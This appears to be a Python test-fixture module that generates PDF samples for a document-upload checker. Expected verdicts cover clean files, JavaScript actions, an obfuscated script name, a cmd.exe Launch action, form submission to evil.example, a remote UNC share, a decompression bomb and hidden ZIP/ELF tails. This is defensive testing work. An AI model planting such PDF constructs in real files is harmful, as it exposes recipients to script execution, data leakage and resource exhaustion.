"""PDF files for the corpus: drawn by reportlab, changed by qpdf."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from backoffice.demo.documents import pdf as drawn
from tests.corpus.case import Case
from tests.corpus.markdowns import TEXT


@cache
def plain() -> bytes:
    """Three pages in Russian."""
    return drawn(TEXT * 6, author="Анна Орлова")


def changed(change: Callable[[Any], None], **saving: Any) -> bytes:
    """The plain document after ``change``."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain())) as document:
        change(document)
        document.save(out, **saving)
    return out.getvalue()


def _unchanged(_document: Any) -> None:
    pass


def _script() -> Any:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _hidden_name() -> bytes:
    """JavaScript spelled with a character code, which keeps the length of the placeholder."""
    return changed(_opens_with(lambda: Dictionary(S=Name.ABCDEFGHIJKL))).replace(b"/ABCDEFGHIJKL", b"/Jav#61Script")


def _opens_with(action: Callable[[], Any]) -> Callable[[Any], None]:
    def change(document: Any) -> None:
        document.Root.OpenAction = document.make_indirect(action())

    return change


def _note(rows: Callable[[], dict[str, Any]]) -> Callable[[Any], None]:
    """An annotation on the first page."""

    def change(document: Any) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([10, 10, 200, 40]), **rows())
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return change


def _attached(document: Any) -> None:
    document.attachments["данные.txt"] = pikepdf.AttachedFileSpec(document, b"text of the attachment")


def _with_stream(data: bytes, **rows: Any) -> Callable[[Any], None]:
    def change(document: Any) -> None:
        stream = pikepdf.Stream(document, b"")
        stream.write(data, filter=Name.FlateDecode, type_check=False)
        for key, value in rows.items():
            stream.stream_dict[f"/{key}"] = value
        document.Root.Extra = document.make_indirect(stream)

    return change


def _picture(document: Any) -> None:
    out = io.BytesIO()
    Image.new("L", (2480, 3508), 255).save(out, "PDF")
    with pikepdf.open(io.BytesIO(out.getvalue())) as other:
        document.pages.extend(other.pages)


def _flipped(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0x5A]) + data[at + 1 :]


def _bomb() -> bytes:
    pack, zeros, parts = zlib.compressobj(9), bytes(1 << 20), []
    parts = [pack.compress(zeros) for _ in range(300)]
    return changed(_with_stream(b"".join(parts) + pack.flush()), compress_streams=False)


def _case(name: str, data: Callable[[], bytes], verdict: str = "pass", *rules: str) -> Case:
    def build(path: Path) -> None:
        path.write_bytes(data())

    return Case(name, "instruction", build, verdict, rules)


def _doing(name: str, change: Callable[[Any], None], rule: str, **saving: Any) -> Case:
    return _case(name, lambda: changed(change, **saving), "reject", rule)


_PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
_XFA = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">1</script></xdp:xdp>'

CASES = (
    _case("инструкция.pdf", plain),
    _case("сжатые-объекты.pdf", lambda: changed(_unchanged, **_PACKED)),
    _case("для-веба.pdf", lambda: changed(_unchanged, linearize=True)),
    _case("несжатый.pdf", lambda: changed(_unchanged, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.generalized)),
    _case("версия-2.pdf", lambda: changed(_unchanged, force_version="2.0")),
    _case("со-ссылкой.pdf", lambda: changed(_note(lambda: {"Subtype": Name.Link, "A": Dictionary(S=Name.URI, URI=String("https://example.ru/docs"))}))),
    _case("оглавление.pdf", lambda: changed(_opens_with(lambda: Array([Name.Fit])))),
    _case("с-картинкой.pdf", lambda: changed(_picture)),
    _case("перевод-строки-в-конце.pdf", lambda: plain() + b"\r\n\r\n"),
    # warns
    _case("хвост.pdf", lambda: plain() + b"made by hand", "warn", "format.trailing"),
    _case("без-печати.pdf", lambda: changed(_unchanged, encryption=pikepdf.Encryption(user="", owner="тайна")), "warn", "pdf.restricted"),
    _case("ключ-дважды.pdf", lambda: changed(_unchanged, compress_streams=False).replace(b"/Creator ", b"/Author  "), "warn", "pdf.odd"),
    # does something
    _doing("сценарий.pdf", _opens_with(_script), "pdf.javascript"),
    _doing("сценарий-в-потоке-объектов.pdf", _opens_with(_script), "pdf.javascript", **_PACKED),
    _case("сценарий-скрыт-в-имени.pdf", _hidden_name, "reject", "pdf.javascript", "antivirus.suspicious"),
    _doing("сценарий-в-форме.pdf", _with_stream(zlib.compress(_XFA)), "pdf.javascript"),
    _doing("сценарий-страницы.pdf", _note(lambda: {"Subtype": Name.Text, "AA": Dictionary(E=_script())}), "pdf.javascript"),
    _doing("запуск.pdf", _opens_with(lambda: Dictionary(S=Name.Launch, F=String("cmd.exe"))), "pdf.launch"),
    _doing("отправка-формы.pdf", _opens_with(lambda: Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))), "pdf.remote"),
    _doing("чужой-файл.pdf", _opens_with(lambda: Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\a.pdf"))), "pdf.remote"),
    _doing("ссылка-javascript.pdf", _note(lambda: {"Subtype": Name.Link, "A": Dictionary(S=Name.URI, URI=String("javascript:1"))}), "pdf.remote"),
    _doing("внешний-поток.pdf", _with_stream(zlib.compress(b"x"), F=String("c:\\secret.txt")), "pdf.remote"),
    _doing("вложение.pdf", _attached, "pdf.embedded"),
    _doing("видео.pdf", _note(lambda: {"Subtype": Name.RichMedia}), "pdf.embedded"),
    _case("пароль-читателя.pdf", lambda: changed(_unchanged, encryption=pikepdf.Encryption(user="тайна", owner="")), "reject", "pdf.encrypted"),
    _case("пароль.pdf", lambda: changed(_unchanged, encryption=pikepdf.Encryption(user="тайна", owner="тайна")), "reject", "pdf.encrypted",
          "antivirus.encrypted"),
    _case("бомба.pdf", _bomb, "reject", "pdf.bomb"),
    # damaged
    _case("обрезан.pdf", lambda: plain()[:-1000], "reject", "format.truncated"),
    _case("половина.pdf", lambda: plain()[: len(plain()) // 2], "reject", "format.truncated"),
    _case("сбит-указатель.pdf", lambda: plain().replace(b"startxref\n", b"startxref\n1"), "reject", "format.damaged"),
    _case("сбит-поток.pdf", lambda: _flipped(changed(_unchanged), changed(_unchanged).index(b"stream\n") + 60), "reject", "format.damaged"),
    _case("и-zip-и-pdf.pdf", lambda: plain() + b"PK\5\6" + bytes(18), "reject", "format.hidden"),
    _case("с-программой-в-хвосте.pdf", lambda: plain() + b"\x7fELF" + bytes(500), "reject", "format.hidden"),
    _case("текст.pdf", TEXT.encode, "reject", "format.mismatch"),
    _case("пусто.pdf", lambda: b"", "reject", "format.empty"),
)  # fmt: skip
